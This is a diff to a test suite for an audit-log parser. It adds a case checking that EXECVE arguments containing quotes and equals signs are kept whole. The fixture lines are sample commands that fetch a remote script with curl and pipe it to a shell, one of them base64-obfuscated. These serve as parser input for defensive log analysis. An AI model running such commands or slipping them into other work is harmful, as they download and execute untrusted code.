@@ -660,6 +660,19 @@ describe("ausearch's output (-i: interpreted, local times; without: time-> lines
     ]);
     expect(JSON.parse(r.rows[0]!.extra as string)).toMatchObject({ type: 'EXECVE', a2: 'curl http://198.51.100.7/x.sh | sh' });
   });
+
+  it("an interpreted argument holding `=`, quotes or what looks like a key stays whole, up to the next argument", () => {
+    const r = parseText(
+      [
+        'type=EXECVE msg=audit(12/06/2026 02:05:40.000:4567) : argc=3 a0=bash a1=-c a2=echo Y3VybCBodHRwOi8veC55L3ogfCBzaA== | base64 -d | bash',
+        'type=EXECVE msg=audit(12/06/2026 02:06:20.000:4569) : argc=4 a0=sh a1=-c a2=echo "x=1 y=2" > /tmp/"a b" a3=--flag=on',
+      ].join('\n') + '\n',
+      { tz: 'UTC' },
+    );
+    expect(r.quarantined).toEqual([]);
+    expect(JSON.parse(r.rows[0]!.extra as string)).toEqual({ type: 'EXECVE', audit_serial: '4567', argc: '3', a0: 'bash', a1: '-c', a2: 'echo Y3VybCBodHRwOi8veC55L3ogfCBzaA== | base64 -d | bash' });
+    expect(JSON.parse(r.rows[1]!.extra as string)).toMatchObject({ a0: 'sh', a1: '-c', a2: 'echo "x=1 y=2" > /tmp/"a b"', a3: '--flag=on' });
+  });
 });
 
 describe('Palo Alto PAN-OS syslog', () => {
